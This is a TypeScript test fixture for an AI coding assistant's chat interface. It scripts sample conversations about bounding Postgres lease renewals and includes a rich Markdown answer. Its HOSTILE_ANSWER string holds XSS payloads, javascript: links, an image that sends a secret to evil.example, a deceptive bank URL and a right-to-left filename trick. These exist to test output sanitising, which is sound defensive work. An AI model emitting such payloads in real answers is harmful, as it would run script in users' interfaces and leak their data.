/** Conversations for tests and pictures: the one of the desk's pictures, and failures. */
import type { Page } from 'playwright-core'
import type { Item } from '../../../../forge/desk/contract/chat.ts'
import { ChatStandIn, pastTurn, type Script, SOME_USAGE } from '../chat-stand-in.ts'
import { oidOf, type StandIn } from '../web-stand-in.ts'

export const BRANCH = 'lease-renewal'
const TOOL = 'tools/store_stats.ts'

const BEFORE = `export const schema = {
  name: "store_stats",
  description: "Counts the queries of a store.",
  parameters: { type: "object", properties: { store: { type: "string" } } },
};

function queriesOf(source: string) {
  const queries = [];
  for (const line of source.split("\\n")) {
    if (line.includes("sql\`")) {
      queries.push(line.trim());
    }
  }
  return queries;
}

export async function execute(vfs, { store }) {
  const source = await vfs.readFile(\`src/store/\${store}.ts\`);
  return queriesOf(source).length;
}
`
export const TOOL_APPROVAL = {
  path: TOOL,
  oid: oidOf('tool'),
  before: BEFORE,
  source: BEFORE.replace('queries of a store.', 'queries of a store, and lists those without an index.').replace(
    '  return queriesOf(source).length;',
    '  const queries = queriesOf(source);\n  const migrations = await vfs.listFiles("src/store/migrations");\n  return { count: queries.length, migrations };',
  ),
}

/** The turns of the desk's pictures, in the branch of the scene. */
export function withTurns(desk: StandIn): ChatStandIn {
  const ai = new ChatStandIn(desk)
  const chat = ai.of(BRANCH)
  for (const path of ['src/queue/lease.ts', 'src/queue/types.ts', 'src/store/postgres.ts', 'AGENTS.md']) {
    chat.whole.set(path, 2_900 + path.length * 40)
  }
  const turn = 'past-3'
  const call = (id: string, name: string, title: string, words: string, seconds = 0.2): Item => ({
    kind: 'call',
    turn,
    call: { id, name, title, words, seconds, state: 'done', result: `${title}\n${words}\n` },
  })
  const commit = desk.commit(BRANCH, 'Bound renewals and give up a lost lease', 'opus-5.5')
  chat.items = [
    ...pastTurn(1, 'Who holds a refused claim', 'Nobody: the row is left as it was.'),
    ...pastTurn(2, 'Renew before the lease ends', 'It is renewed at 60 % of the time that is left.'),
    {
      kind: 'user',
      turn,
      at: 1_790_003_000,
      text: 'Renewals must not pile up when Postgres is slow. Bound them, and give the job up cleanly when its lease can’t be renewed in time.',
    },
    call('a', 'get_lines', 'src/queue/lease.ts 24–58', '35 lines'),
    call('b', 'search_replace', 'src/queue/lease.ts', '3 edits +21 −9'),
    call('c', 'write_file', 'test/lease-lost.test.ts', '+46'),
    call('d', 'run_command', 'bun test test/lease', '18 passed', 3.4),
    {
      kind: 'text',
      turn,
      text: 'A keeper now has at most one renewal under way, each with a deadline of half the time left. After three misses it aborts the job with `LeaseLost` instead of letting it finish work that another worker may have begun.',
    },
    {
      kind: 'end',
      turn,
      at: 1_790_003_072,
      how: 'done',
      model: 'anthropic/opus-5.5',
      usage: SOME_USAGE,
      seconds: 72,
      commit: {
        oid: commit,
        subject: 'Bound renewals and give up a lost lease',
        files: [
          { path: 'src/queue/lease.ts', status: 'changed', added: 21, deleted: 9 },
          { path: 'test/lease-lost.test.ts', status: 'added', added: 46 },
          { path: 'src/queue/types.ts', status: 'changed', added: 6, deleted: 1 },
        ],
        canUndo: true,
      },
    },
  ]
  desk.layout = {
    tabs: [
      {
        at: { kind: 'branch', branch: BRANCH },
        files: ['src/queue/lease.ts', 'src/worker.ts', 'test/lease.test.ts'].map(path => ({ path, top: 0, cursor: 0 })),
        folders: ['src', 'src/queue', 'src/store'],
      },
      { at: { kind: 'branch', branch: 'retry-jitter' }, files: [], folders: [] },
      { at: { kind: 'branch', branch: 'http-metrics' }, files: [], folders: [] },
    ],
    active: 0,
  }
  return ai
}

/** Half a turn, as in the second picture: it runs until it is stopped. */
export const HALF_A_TURN: Script = async turn => {
  turn.call({ name: 'update_context', title: 'worker.ts, metrics.ts', words: 'full' })
  turn.call({ name: 'search_replace', title: 'src/queue/lease.ts', words: '2 edits +9 −1' })
  turn.call({ name: 'search_replace', title: 'src/worker.ts', words: '1 edit +6 −1' })
  turn.text(
    'A lease is in doubt from its first missed renewal until the next good one. The keeper knows that, so the worker asks `keeper.inDoubt` before each claim.',
  )
  turn.call({
    name: 'run_command',
    title: 'bun test test/worker.test.ts',
    state: 'runs',
    result: '✓ a worker claims while all leases are sound\n✓ no claim while one is in doubt\n',
  })
  turn.doing('running bun test', { ...SOME_USAGE, cost: 0.07 })
  await turn.stopped
  turn.unfinished('You stopped the turn', ['src/worker.ts', 'src/queue/lease.ts'])
}

export const QUESTION = 'Now the worker: stop claiming while any lease is in doubt, and show it in the metrics.'

export async function ask(page: Page, text: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Message', exact: true }).fill(text)
  await page.getByRole('button', { name: 'Send', exact: true }).click()
}

/** An answer with every kind of Markdown. */
export const RICH_ANSWER = `# What I changed

The keeper **bounds** its renewals; see [the design](docs/design.md) and [the manual](https://www.postgresql.org/docs/current/sql-select.html).
A *lease* that is lost is ~~kept~~ given up: \`LeaseLost\` &mdash; at once.

1. One renewal at a time
   - with a deadline
   - and a jitter
2. After three misses it aborts
   1. the job
   2. the claim

- [x] tests
- [ ] metrics

> Two workers never hold one lease.

| Case | Before | After |
|:-----|-------:|:-----:|
| slow store | 12 | 1 |
| lost lease | ∞ | 3 |

\`\`\`ts src/queue/lease.ts
const MAX_MISSES = 3
export async function keep(lease: Lease): Promise<void> {
  // Bounded: a slow store does not pile up.
  await renew(lease, { jitter: "full" })
}
\`\`\`

---

https://example.com/raw and ![a picture](https://example.com/p.png)`

/** An answer of a hostile model. */
export const HOSTILE_ANSWER = `<script>window.pwned = 1</script> <img src=x onerror="window.pwned=1"> <b onclick="pwned=1">bold?</b>

[click me](javascript:window.pwned=1) [data](data:text/html,<script>pwned=1</script>) [mail](mailto:a@example.com) [bank](https://bank.example@evil.example/)

![leak](https://evil.example/leak.png?q=secret) <https://evil.example/auto> https://evil.example/bare www.evil.example

<svg><style><img title="</style><img src=x onerror=pwned=1>"></style></svg>

\u001b[31mred\u001b[0m and \u202Etxt.exe\u202C turned

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">
`
